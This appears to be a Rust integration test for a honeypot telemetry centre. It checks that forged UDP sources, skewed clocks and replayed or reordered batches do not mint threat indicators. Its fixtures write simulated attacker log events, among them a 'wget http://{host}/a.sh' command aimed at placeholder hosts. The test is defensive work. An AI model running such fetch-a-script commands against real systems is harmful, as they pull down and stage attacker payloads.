//! Sources that may be forged, clocks far off, batches replayed and out of order: the whole way from a sensor's certificate
//! to the indicators, and nothing is minted that was not proved.

use base::Timestamp;
use serde_json::{Value, json};
use std::time::Duration;

use crate::centre::{Centre, each_store};
use crate::machines::Sensor;

/// Attacked by datagrams in the name of this address.
const VICTIM: &str = "192.88.100.7";
/// Attacks for real.
const REAL: &str = "192.88.100.9";
/// Attacks with a clock of three years ago.
const OLD: &str = "192.88.100.30";
/// Attacks with a clock of next year.
const AHEAD: &str = "192.88.100.40";

fn line(at: Timestamp, session: &str, from: &str, transport: &str, what: &Value) -> String {
    let mut event = json!({"at": at.rfc3339(), "session": session, "src_ip": from, "src_port": 4000, "dst_port": 22,
        "protocol": if transport == "udp" { "sip" } else { "ssh" }, "transport": transport});
    for (field, value) in what.as_object().unwrap() {
        event[field] = value.clone();
    }
    event.to_string()
}

/// Everything telling that an attacker can do, by datagram or by connection.
fn attack(at: Timestamp, session: &str, from: &str, transport: &str, host: &str) -> Vec<String> {
    let whats = [
        json!({"kind": "conn.open"}),
        json!({"kind": "auth.attempt", "user": "root", "password": "x", "method": "password", "success": true}),
        json!({"kind": "cmd.input", "line": format!("wget http://{host}/a.sh")}),
        json!({"kind": "file.ref", "url": format!("http://{host}/a.sh")}),
        json!({"kind": "conn.close", "duration_ms": 10}),
    ];
    whats.iter().map(|what| line(at, session, from, transport, what)).collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_is_minted_from_what_may_be_forged() {
    each_store(async |store| {
        let centre = Centre::start(store).await;
        centre.json(&["org", "add", "north-power", "--json"]);
        let sensor = Sensor::enrol(&centre, "by-hand").await;
        let now = base::Env::system().now();
        let mut lines = Vec::new();
        for n in 0..40 {
            let session = format!("u{n}");
            lines.extend(attack(now, &session, VICTIM, "udp", "victim.example"));
            lines.push(line(now, &session, VICTIM, "udp", &json!({"kind": "udp.probe", "size": 60})));
        }
        // One session of which one event came by datagram: the rest of it proves nothing either.
        let mut mixed = attack(now, "mixed", VICTIM, "tcp", "mixed.example");
        mixed.insert(0, line(now, "mixed", VICTIM, "udp", &json!({"kind": "udp.probe", "size": 60})));
        lines.extend(mixed);
        lines.extend(attack(now.plus_secs(-3 * 365 * 86_400), "old", OLD, "tcp", "old.example"));
        lines.extend(attack(now.plus_secs(365 * 86_400), "ahead", AHEAD, "tcp", "ahead.example"));
        // The real one comes last: when it has become an indicator, everything before it was looked at.
        lines.extend(attack(now, "real", REAL, "tcp", "real.example"));
        let total = lines.len() as u64;
        let part = |from: usize, to: usize| lines.get(from..to).unwrap().to_vec();
        let middle = lines.len() / 2;
        // The second half first, then the first, then everything again in both orders.
        assert_eq!(sensor.batch(middle as u64 + 1, &part(middle, lines.len())).await.0, 200);
        assert_eq!(sensor.batch(1, &part(0, middle)).await.1["ack"], json!(total));
        for (first, half) in [(middle, part(middle, lines.len())), (0, part(0, middle)), (0, lines.clone())] {
            let (status, answer) = sensor.batch(first as u64 + 1, &half).await;
            assert_eq!((status, &answer["accepted"], &answer["duplicate"]), (200, &json!(0), &json!(half.len())));
        }
        assert_eq!(centre.settled_events(total).await, total);
        testkit::wait_until(Duration::from_secs(30), || async {
            values(&centre, "/api/v1/indicators?limit=100").await.iter().any(|value| value.contains(REAL))
        })
        .await;
        let minted = values(&centre, "/api/v1/indicators?limit=100").await;
        let observed = [
            values(&centre, "/api/v1/observables?kind=ipv4&limit=100").await,
            values(&centre, "/api/v1/observables?kind=url&limit=100").await,
        ]
        .concat();
        for forged in [VICTIM, "victim.example", "mixed.example"] {
            assert!(!minted.iter().any(|value| value.contains(forged)), "{forged}: {minted:?}");
            assert!(!observed.iter().any(|value| value.contains(forged)), "{forged}: {observed:?}");
        }
        assert!(!minted.iter().any(|value| value.contains(OLD)), "a log of long ago raises no alarm: {minted:?}");
        let found = centre.get("/api/v1/findings?which=all&limit=100").await.to_string();
        assert!(found.contains(REAL) && !found.contains(VICTIM) && !found.contains(OLD), "{found}");
        let ahead = centre.get(&format!("/api/v1/sessions?source={AHEAD}")).await;
        let opened: Timestamp = ahead["items"][0]["opened_at"].as_str().unwrap().parse().unwrap();
        assert!(opened.since(now).abs() < 600 * 1_000_000, "a clock ahead of ours counts at arrival: {ahead}");
        let udp = centre.get("/api/v1/sessions?class=udp_probe&limit=100").await;
        assert_eq!(udp["items"].as_array().unwrap().len(), 41, "they are shown as what they are");
    })
    .await;
}

async fn values(centre: &Centre, path: &str) -> Vec<String> {
    centre.get(path).await["items"].as_array().unwrap().iter().map(Value::to_string).collect()
}
